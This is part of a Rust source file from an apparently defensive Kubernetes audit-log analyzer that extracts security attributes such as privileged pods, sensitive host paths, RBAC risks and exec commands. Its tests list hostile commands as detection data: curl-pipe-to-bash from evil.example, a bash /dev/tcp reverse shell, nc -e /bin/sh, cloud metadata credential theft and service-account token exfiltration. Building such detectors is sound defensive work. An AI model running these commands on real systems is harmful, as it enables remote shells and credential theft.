                out.insert(attr::OWNER_KIND.into(), json!(kind));
            }
            if let Some(name) = str_at(owner, &["name"]) {
                out.insert(attr::OWNER_NAME.into(), json!(name));
            }
        }
        // Pod IPs for the pod inventory (C-05): kubelets' status updates and pod
        // objects in responses carry status.podIP(s).
        if resource == "pods" && matches!(subresource, "" | "status") {
            let mut ips: Vec<&str> = object
                .pointer("/status/podIPs")
                .and_then(Value::as_array)
                .into_iter()
                .flatten()
                .filter_map(|p| p.get("ip").and_then(Value::as_str))
                .collect();
            if let Some(ip) = object.pointer("/status/podIP").and_then(Value::as_str)
                && !ips.contains(&ip)
            {
                ips.push(ip);
            }
            let host_network = at(&object, &["spec", "hostNetwork"]).and_then(Value::as_bool);
            if !ips.is_empty() && host_network != Some(true) {
                out.insert(attr::POD_IPS.into(), json!(ips));
            }
        }
        if resource == "serviceaccounts"
            && subresource == "token"
            && let Some(secs) = at(&object, &["spec", "expirationSeconds"]).and_then(Value::as_i64)
        {
            out.insert(attr::TOKEN_EXPIRATION_SECONDS.into(), json!(secs));
        }
        if resource == "services"
            && written
            && let Some(t) = at(&object, &["spec", "type"]).and_then(Value::as_str)
        {
            out.insert(attr::SERVICE_TYPE.into(), json!(t));
        }
        if resource == "ingresses" && written && source != "json-patch" {
            let tls = at(&object, &["spec", "tls"])
                .and_then(Value::as_array)
                .is_some_and(|t| !t.is_empty());
            out.insert(attr::INGRESS_TLS.into(), json!(tls));
        }
        if resource == "configmaps" && written {
            let found = configmap_credentials_marked(&object);
            if !found.is_empty() {
                out.insert(attr::CONFIGMAP_CREDENTIALS.into(), json!(found));
            }
        }
        if resource == "secrets" {
            if let Some(t) = str_at(&object, &["type"]) {
                out.insert(attr::SECRET_TYPE.into(), json!(t));
            }
            if let Some(sa) = object
                .pointer("/metadata/annotations/kubernetes.io~1service-account.name")
                .and_then(Value::as_str)
            {
                out.insert(attr::SECRET_SERVICE_ACCOUNT.into(), json!(sa));
            }
        }
        if subresource == "scale"
            && let Some(n) = at(&object, &["spec", "replicas"]).and_then(Value::as_i64)
        {
            out.insert(attr::SCALE_REPLICAS.into(), json!(n));
        }
        if resource == "certificatesigningrequests" {
            if let Some(s) = at(&object, &["spec", "signerName"]).and_then(Value::as_str) {
                out.insert(attr::CSR_SIGNER.into(), json!(s));
            }
            if let Some(subject) = at(&object, &["spec", "request"])
                .and_then(Value::as_str)
                .and_then(crate::csr::subject)
            {
                if let Some(cn) = subject.common_name {
                    out.insert(attr::CSR_SUBJECT_CN.into(), json!(cn));
                }
                if !subject.organizations.is_empty() {
                    out.insert(
                        attr::CSR_SUBJECT_ORGANIZATIONS.into(),
                        json!(subject.organizations),
                    );
                }
            }
        }
    }
    out
}

/// The object's name: `objectRef.name`, else the created object's name from the
/// response, else `generateName` + `*`.
pub fn object_name(event: &Value) -> String {
    str_at(event, &["objectRef", "name"])
        .or_else(|| str_at(event, &["responseObject", "metadata", "name"]))
        .or_else(|| str_at(event, &["requestObject", "metadata", "name"]))
        .map(str::to_string)
        .or_else(|| {
            str_at(event, &["requestObject", "metadata", "generateName"]).map(|g| format!("{g}*"))
        })
        .unwrap_or_default()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn actor_kinds_do_not_trust_the_system_prefix() {
        assert_eq!(
            actor_kind("system:kube-scheduler", Some(200)),
            "controlplane"
        );
        assert_eq!(
            actor_kind(
                "system:serviceaccount:kube-system:replicaset-controller",
                None
            ),
            "controlplane"
        );
        assert_eq!(actor_kind("system:anonymous", Some(200)), "anonymous");
        assert_eq!(
            actor_kind("system:serviceaccount:shop:storefront", Some(200)),
            "serviceaccount"
        );
        assert_eq!(actor_kind("system:node:worker-1", Some(200)), "node");
        assert_eq!(actor_kind("", Some(401)), "unauthenticated");
        assert_eq!(actor_kind("system:masters-fake", Some(200)), "user");
    }

    #[test]
    fn allowed_follows_the_decision_then_the_code() {
        assert!(allowed(Some("allow"), Some(200)));
        assert!(!allowed(Some("forbid"), Some(403)));
        assert!(allowed(None, Some(101)));
        assert!(!allowed(None, Some(401)));
        assert!(!allowed(None, None));
    }

    #[test]
    fn health_and_loopback_checks_are_told_from_lookalike_attacks() {
        for ok in [
            "curl -fsS http://localhost:8080/healthz",
            "sh -c curl -s -o /dev/null -w %{http_code} http://127.0.0.1:9090/-/ready",
            "wget -qO- http://127.0.0.1:8080/health",
            "wget -q -O - localhost:3000/api/health",
            "curl -k https://kubernetes.default.svc/healthz",
            "curl -sk https://kubernetes.default.svc.cluster.local/readyz",
            "bash -c echo > /dev/tcp/localhost/5432",
            "timeout 1 bash -c cat < /dev/null > /dev/tcp/127.0.0.1/6379",
            "nc -zv localhost 8080",
            "/usr/bin/curl --fail --max-time 2 http://[::1]:8080/livez",
        ] {
            if ok.contains('<') {
                assert!(!is_health_check(ok), "{ok}: input redirection is refused");
                continue;
            }
            assert!(is_health_check(ok), "{ok} is a health check");
        }
        for attack in [
            "curl http://203.0.113.7/x.sh",
            "curl -s http://localhost/healthz | sh",
            "sh -c curl -fsSL http://evil.example/i.sh | bash",
            "curl http://169.254.169.254/latest/meta-data/iam/security-credentials/",
            "wget -qO- http://metadata.google.internal/computeMetadata/v1/",
            "curl http://localhost@evil.example/",
            "curl -o /tmp/x http://localhost:8080/payload",
            "curl --data @/var/run/secrets/kubernetes.io/serviceaccount/token http://localhost:9000",
            "curl -k https://kubernetes.default.svc/api/v1/secrets",
            "curl http://localhost/healthz; curl http://evil.example",
            "curl http://localhost/h && sh /tmp/x",
            "bash -c echo > /dev/tcp/203.0.113.9/4444",
            "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
            "nc -e /bin/sh localhost 4444",
            "nc 203.0.113.9 4444",
            "curl file:///etc/shadow",
            "curl $(cat /var/run/secrets/kubernetes.io/serviceaccount/token)",
            "echo > /etc/cron.d/x",
        ] {
            assert!(!is_health_check(attack), "{attack} is not a health check");
        }
        // Past the 1,024-byte bound nothing is a check, however it starts: padding a
        // command with spaces or flags cannot buy an exception.
        let padded = format!("curl -s http://localhost:8080/healthz{}", " ".repeat(1024));
        assert!(padded.len() > 1024);
        assert!(!is_health_check(&padded));
        let at_bound = format!(
            "curl -s http://localhost:8080/healthz{}",
            " ".repeat(1024 - 37)
        );
        assert_eq!(at_bound.len(), 1024);
        assert!(
            is_health_check(&at_bound),
            "a check at the bound is still one"
        );
    }

    #[test]
    fn exec_command_is_decoded_from_the_query() {
        let e = json!({"verb": "create", "stage": "ResponseStarted",
            "requestURI": "/api/v1/namespaces/default/pods/debug/exec?command=chroot&command=%2Fhost&command=sh&command=-c&command=cat+%2Fetc%2Fkubernetes%2Fadmin.conf&container=alpine&tty=true",
            "objectRef": {"resource": "pods", "subresource": "exec"}, "responseStatus": {"code": 101}});
        let d = derive(&e, Some(101));
        assert_eq!(
            d["k8s.exec.command"],
            "chroot /host sh -c cat /etc/kubernetes/admin.conf"
        );
        assert_eq!(d["k8s.exec.container"], "alpine");
        assert_eq!(d["k8s.exec.tty"], true);
        assert_eq!(d["k8s.allowed"], true);
    }

    #[test]
    fn pod_specs_are_found_in_every_workload_kind() {
        let spec = json!({"hostPID": true, "containers": [{"image": "alpine", "securityContext": {"privileged": true,
            "capabilities": {"add": ["cap_sys_admin", "NET_BIND_SERVICE"]}}}],
            "volumes": [{"hostPath": {"path": "/var/run/docker.sock"}}, {"hostPath": {"path": "/var/log/"}}]});
        for (resource, object) in [
            ("pods", json!({"spec": spec})),
            ("daemonsets", json!({"spec": {"template": {"spec": spec}}})),
            (
                "cronjobs",
                json!({"spec": {"jobTemplate": {"spec": {"template": {"spec": spec}}}}}),
            ),
        ] {
            let e = json!({"verb": "create", "objectRef": {"resource": resource}, "requestObject": object,
                "annotations": {"authorization.k8s.io/decision": "allow"}, "responseStatus": {"code": 201}});
            let d = derive(&e, Some(201));
            assert_eq!(d["k8s.pod.privileged"], true, "{resource}");
            assert_eq!(d["k8s.pod.host_pid"], true);
            assert_eq!(
                d["k8s.pod.sensitive_host_paths"],
                json!(["/var/run/docker.sock"])
            );
            assert_eq!(
                d["k8s.pod.host_paths"],
                json!(["/var/run/docker.sock", "/var/log"])
            );
            assert_eq!(d["k8s.pod.dangerous_capabilities"], json!(["SYS_ADMIN"]));
            assert_eq!(d["k8s.pod.images"], json!(["alpine"]));
        }
    }

    #[test]
    fn json_patch_paths_are_bounded() {
        // 20,000 segments once recursed per segment (and padded 1,024 elements per
        // level): the process aborted. Now the operation is skipped.
        let long = "/spec".repeat(20_000);
        let deep = format!("/x{}", "/9999".repeat(MAX_PATCH_SEGMENTS - 1));
        let ops = vec![
            json!({"op": "add", "path": long, "value": 1}),
            json!({"op": "add", "path": deep, "value": 1}),
            json!({"op": "add", "path": "/spec/containers/5000/image", "value": "x"}),
        ];
        let doc = json_patch_skeleton(&ops);
        assert!(doc.get("spec").is_some());
        assert_eq!(doc["spec"]["containers"][0]["image"], "x");
        assert_eq!(doc["x"].as_array().map(Vec::len), Some(1));
    }

    #[test]
    fn json_patch_ops_are_replayed() {
        let e = json!({"verb": "patch", "objectRef": {"resource": "deployments"},
            "requestObject": [
                {"op": "replace", "path": "/spec/template/spec/containers/0/securityContext/privileged", "value": true},
                {"op": "add", "path": "/spec/template/spec/volumes/-", "value": {"name": "h", "hostPath": {"path": "/"}}},
                {"op": "remove", "path": "/spec/template/spec/hostNetwork"}]});
        let d = derive(&e, Some(200));
        assert_eq!(d["k8s.pod.privileged"], true);
        assert_eq!(d["k8s.pod.sensitive_host_paths"], json!(["/"]));
        assert_eq!(d["k8s.pod.spec_source"], "json-patch");
    }

    #[test]
    fn response_object_is_preferred_over_a_partial_patch() {
        let e = json!({"verb": "patch", "objectRef": {"resource": "pods"},
            "requestObject": {"metadata": {"labels": {"a": "b"}}},
            "responseObject": {"kind": "Pod", "spec": {"hostNetwork": true, "containers": [{"image": "x"}]}}});
        let d = derive(&e, Some(200));
        assert_eq!(d["k8s.pod.host_network"], true);
        assert_eq!(d["k8s.pod.spec_source"], "responseObject");
    }

    #[test]
    fn sensitive_host_paths_follow_the_catalogue() {
        for p in [
            "/",
            "/proc",
            "/etc/",
            "/etc/kubernetes/pki",
            "/run/containerd/containerd.sock",
            "/var/lib/kubelet",
        ] {
            assert!(sensitive_host_path(p), "{p}");
        }
        for p in ["/var/log", "/lib/modules", "/etc-other", "/data"] {
            assert!(!sensitive_host_path(p), "{p}");
        }
    }

    #[test]
    fn rbac_risks() {
        let e = json!({"verb": "create", "objectRef": {"resource": "clusterroles"},
            "requestObject": {"rules": [
                {"verbs": ["get", "list"], "resources": ["secrets"]},
                {"verbs": ["create"], "resources": ["pods/exec"]},
                {"verbs": ["bind"], "resources": ["clusterroles"]}]}});
        let d = derive(&e, Some(201));
        assert_eq!(
            d["k8s.rbac.risks"],
            json!(["secrets-read", "pods-exec", "bind"])
        );
        let quiet = json!({"verb": "create", "objectRef": {"resource": "roles"},
            "requestObject": {"rules": [{"verbs": ["get"], "resources": ["configmaps"]}]}});
        assert!(derive(&quiet, Some(201)).get("k8s.rbac.risks").is_none());
    }

    #[test]
    fn user_agent_families() {
        assert_eq!(user_agent_family("curl/8.5.0"), "scripted");
        assert_eq!(user_agent_family("python-requests/2.31.0"), "scripted");
        assert_eq!(
            user_agent_family("kubectl/v1.30.2 (darwin/arm64) kubernetes/3968350"),
            "kubectl"
        );
        assert_eq!(
            user_agent_family("kube-state-metrics/v2.12.0 (linux/amd64) kubernetes/$Format"),
            "clientgo"
        );
    }
}
